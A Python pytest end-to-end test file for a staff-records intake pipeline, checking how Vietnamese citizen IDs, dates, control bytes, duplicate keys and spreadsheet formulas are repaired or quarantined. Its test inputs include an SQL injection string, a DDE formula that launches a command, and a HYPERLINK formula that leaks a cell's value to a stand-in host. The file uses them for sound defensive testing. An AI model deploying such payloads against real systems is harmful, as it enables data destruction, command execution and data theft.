"""The given cases on staff, and other instances of their kinds: identifiers, dates, odd bytes, doubled keys, formulas."""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from tests.e2e.conftest import Make
from tests.e2e.flows import World, said, saved, text_csv, workbook

CASES = ("G01", "G03", "G05", "G11", "G13")
HEAD = ("Số CCCD", "Họ và tên", "Ngày sinh", "Giới tính", "Chức vụ", "Mã xã")
OTHER = {"numbers": "05965", "dates": "05966", "bytes": "05963", "doubled": "05962", "formulas": "05964"}
PERIOD = "2026-Q1"
"""Own instances come in another period than the given cases, so that they can share a world with them."""


class Bench:
    """The world after one run over all files, and where each came from."""

    def __init__(self, world: World, folder: Path) -> None:
        self.world, self.files = world, {}
        for name in CASES:
            (submission,) = json.loads((folder / name / "case.json").read_text(encoding="utf-8"))["submissions"]
            # cases of one sender and period would replace each other
            period = {"G11": "2025-Q3", "G13": "2025-Q4"}.get(name, "2026-Q2")
            self.files[name] = world.drop(
                submission["sender"],
                (folder / name / submission["path"]).read_bytes(),
                f"{name}_{submission['path']}",
                period=period,
                at=datetime.fromisoformat(submission["received_at"]),
                sidecar={"dataset": "staff"},
            )
        for name, (file, data) in _others().items():
            self.files[name] = world.drop(OTHER[name], data, file, period=PERIOD)
        world.run()

    def answer(self, name: str) -> dict[str, Any]:
        return self.world.submission(self.files[name])

    def said(self, name: str) -> set[tuple[int, str]]:
        """(row, rule) of what is said about a file."""
        return {(int("".join(c for c in a if c.isdigit())), rule) for a, rule in said(self.answer(name))}

    def people(self, name: str) -> list[tuple[Any, ...]]:
        """(citizen_id as the steward reads it, name, birth, sex, position, commune) of the accepted rows of a file."""
        return self.world.rows(
            "select i.value, full_name, date_of_birth, gender, position, commune_code from staging.staff_rows r "
            "join vault.identifier i on i.subject = r.citizen_id "
            "join intake.submission s on s.assessment_no = r._assessment where s.submission_id = %s and r._ok "
            "order by _sheet, _row",
            [self.answer(name)["submission_id"]],
        )

    def repairs(self, name: str, column: str) -> list[tuple[int, str, str]]:
        return [(r["row"], r["rule"], r["raw"]) for r in self.answer(name)["repairs"] if r["column"] == column]

    def raw(self, name: str, row: int) -> dict[str, str]:
        """The cells of a quarantined row as they were sent."""
        found = self.world.rows(
            "select q.raw from staging.quarantine q join intake.submission s using (assessment_no) "
            "where s.submission_id = %s and q.row = %s",
            [self.answer(name)["submission_id"], row],
        )
        cells: dict[str, str] = found[0][0]
        return cells


def _others() -> dict[str, tuple[str, bytes]]:
    man = ("Nông Văn Tý", "14/03/1987", "Nam", "Kế toán")
    woman = ("Hoàng Thị Mây", "02/11/1990", "Nữ", "Văn thư")
    numbers = [
        ("20087999801", *man, ""),  # text of a CSV that Excel has written
        ("20190999802.0", *woman, "5965.0"),
        ("020.087.999803", *man, "5965"),
        ("'020087999804", *man, "05965"),
        ("2.0087999805E+10", *man, ""),
        ("20087999806", *woman, ""),  # a woman cannot have it: no zero is put back
        ("020087999807", *woman, ""),
        ("225123456", *man, ""),
        ("02008799980", *man, ""),  # eleven digits with their zero: another one is lost
        ("020187999809", "Lý Thị Đào", "năm 1987", "Nữ", "Văn thư", ""),
    ]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEAD)
    births: list[Any] = [
        date(1990, 3, 5), "5.3.1990", "1990-03-05", "05/03/90", "ngày 05 tháng 3 năm 1990", 32937, "32937", "03/1990", "1990",
        1990.0, "00/00/1990", "29/02/1990", "05/13/1990", "03/05/2090", date(1899, 12, 30), "5/3/1990 08:30", "đang cập nhật",
    ]  # fmt: skip
    for n, birth in enumerate(births, 1):
        sheet.append((f"0200909997{n:02}", "Lý Văn Đào", birth, "Nam", "Kế toán", "05966"))
    odd = [
        (f"0200819996{n:02}", name, "03/02/1981", "Nam", position, "05963")
        for n, (name, position) in enumerate(
            [
                ("Bế Văn Một", "\\."),
                ("Bế Văn Hai", "\\N\t\\N"),
                ("Bế\u200b Văn\u00a0Ba", "NULL"),
                ("Bế Văn Bốn", "a\r\nb"),
                ("Bế Văn Năm", "{1,2}"),
                ("Bế\x01 Văn", "Kế toán"),
                ("Bế Văn Bảy", "Kế\x00 toán"),
                ("Bế Văn Tám", "\ufffd"),
                ("Bế Văn Chín", "\u001a"),
                ("Bế Văn Mười", "'; drop table core.staff; --"),
            ],
            1,
        )
    ]
    one = ("020081999501", "Vi Văn Một", "03/02/1981", "Nam", "Kế toán", "05962")
    two = ("020081999502", "Vi Văn Hai", "03/02/1981", "Nam", "Kế toán", "05962")
    doubled = {
        "sheet": "T1",
        "T1 (2)": [HEAD, ("20081999501", *one[1:]), (*two[:4], "Thủ quỹ", two[5]), ("020.081.999503", *one[1:])],
    }
    start = ("=1+1", "+84", "-1", "@SUM(A1)", "\t=1", "\uff1d1", '=cmd|"/C calc"!A0')
    formulas = [
        *(("020081999401", "Mã Văn Nà", "03/02/1981", text, text, "05964") for text in start),
        *((text, text, text, "Nam", text, text) for text in start),
        ("020081999402", "Mã Văn Lành", "03/02/1981", "Nam", "Kế toán", "05964"),
    ]
    return {
        "numbers": ("so.csv", text_csv([HEAD, *numbers])),
        "dates": ("ngay.xlsx", saved(book)),
        "bytes": ("ky_tu.csv", text_csv([HEAD, *odd])),
        "doubled": ("hai_trang.xlsx", workbook([HEAD, one, two], **doubled)),  # type: ignore[arg-type]
        "formulas": ("cong_thuc.csv", text_csv([HEAD, *formulas])),
    }


@pytest.fixture(scope="module")
def bench(make_world: Make, shared: Path) -> Bench:
    return Bench(make_world(reference=shared / "cases" / "_reference"), shared / "cases")


def ids(people: Sequence[tuple[Any, ...]]) -> list[str]:
    return [p[0] for p in people]


def test_identifiers_typed_as_numbers(bench: Bench) -> None:
    people = bench.people("G01")
    assert ids(people) == ["020087999901", "020190999902", "020301999903", "020079999904"]
    assert {p[5] for p in people} == {"05961"}
    assert bench.repairs("G01", "citizen_id") == [
        (2, "LEADING_ZERO", "200******901"),
        (3, "LEADING_ZERO", "201******902"),
    ]
    assert bench.said("G01") == {(6, "BAD_CITIZEN_ID")}
    assert bench.answer("G01")["state"] == "partly"


def test_identifiers_typed_as_numbers_in_a_csv(bench: Bench) -> None:
    people = bench.people("numbers")
    assert ids(people) == ["020087999801", "020190999802", "020087999803", "020087999804"]
    assert {p[5] for p in people} == {"05965"}
    assert bench.repairs("numbers", "citizen_id") == [
        (2, "LEADING_ZERO", "200******801"),
        (3, "LEADING_ZERO", "201******02.0"),
        (4, "SEPARATORS", "020******803"),
    ]
    assert bench.said("numbers") == {
        (6, "BAD_CITIZEN_ID"),
        (7, "BAD_CITIZEN_ID"),
        (8, "ID_MISMATCH"),
        (9, "OLD_ID_CARD"),
        (10, "BAD_CITIZEN_ID"),
        (11, "DATE_NOT_PRECISE"),
    }


def test_dates_of_four_kinds_in_one_column(bench: Bench) -> None:
    assert [p[2].isoformat() for p in bench.people("G03")] == [
        "1987-03-14",
        "1990-03-05",
        "1988-02-13",
        "1988-01-01",
        "1968-05-12",
    ]
    assert bench.repairs("G03", "date_of_birth") == [(5, "SERIAL", "32143"), (6, "TWO_DIGIT_YEAR", "12/5/68")]
    assert bench.said("G03") == {
        (7, "BAD_DATE"),
        (8, "DATE_NOT_PRECISE"),
        (9, "DATE_NOT_PRECISE"),
        (10, "FUTURE_DATE"),
    }


def test_other_mixes_of_dates(bench: Bench) -> None:
    people = bench.people("dates")
    assert {p[2] for p in people} == {date(1990, 3, 5)}
    assert [p[0][-2:] for p in people] == ["01", "02", "03", "04", "05", "06", "16"]
    assert {row for row, _ in bench.said("dates")} == {*range(8, 17), 18}


def test_bytes_that_a_database_refuses(bench: Bench) -> None:
    people = bench.people("G05")
    assert [p[4] for p in people] == ["Chủ tịch", "\\N", "Phó Chủ tịch HĐND", "Văn thư\\", "Kế toán Thủ quỹ"]
    assert bench.said("G05") == {(7, "CONTROL_CHARACTER")}
    assert bench.raw("G05", 7)["full_name"] == "Bế Văn␀Pác"


def test_other_bytes_that_a_database_refuses(bench: Bench) -> None:
    assert [(p[1], p[4]) for p in bench.people("bytes")] == [
        ("Bế Văn Một", "\\."),
        ("Bế Văn Hai", "\\N \\N"),
        ("Bế Văn Ba", "NULL"),
        ("Bế Văn Bốn", "a b"),
        ("Bế Văn Năm", "{1,2}"),
        ("Bế Văn Mười", "'; drop table core.staff; --"),
    ]
    assert {rule for _, rule in bench.said("bytes")} == {"CONTROL_CHARACTER", "UNREADABLE_TEXT"}


def test_the_same_key_twice(bench: Bench) -> None:
    assert ids(bench.people("G11")) == ["020081999950", "020192999951", "020195999953"]
    assert bench.said("G11") == {(5, "DUPLICATE_KEY"), (6, "DUPLICATE_KEY")}
    assert bench.answer("G11")["set_aside"]["REPEAT"] == 1


def test_the_same_key_twice_across_sheets_and_spellings(bench: Bench) -> None:
    assert ids(bench.people("doubled")) == ["020081999501", "020081999503"]
    assert bench.said("doubled") == {(3, "DUPLICATE_KEY")}
    assert bench.answer("doubled")["set_aside"]["REPEAT"] == 1
    assert len([r for r in bench.answer("doubled")["rows"] if r["rule"] == "DUPLICATE_KEY"]) == 2


def test_text_that_a_spreadsheet_runs(bench: Bench) -> None:
    assert [p[1] for p in bench.people("G13")] == ["Lý Thị Đào-Mây"]
    assert bench.said("G13") == {(2, "FORMULA_TEXT"), (3, "FORMULA_TEXT"), (4, "MISSING")}
    assert bench.raw("G13", 2)["full_name"] == '=HYPERLINK("http://vi-du.invalid/?x="&B2,"Bấm vào đây")'
    assert bench.raw("G13", 4)["position"] == "+Phó phòng"


def test_formulas_in_every_column_stay_texts(bench: Bench) -> None:
    assert ids(bench.people("formulas")) == ["020081999402"]
    assert {row for row, _ in bench.said("formulas")} == set(range(2, 16))
    assert bench.raw("formulas", 8)["position"] == '=cmd|"/C calc"!A0'


def test_nobody_is_current_twice(bench: Bench) -> None:
    current = "select citizen_id from core.staff where valid_to is null and publish_to is null"
    people = ids(bench.world.rows(current))
    assert len(people) == len(set(people)) > 20
    bench.world.conserved()
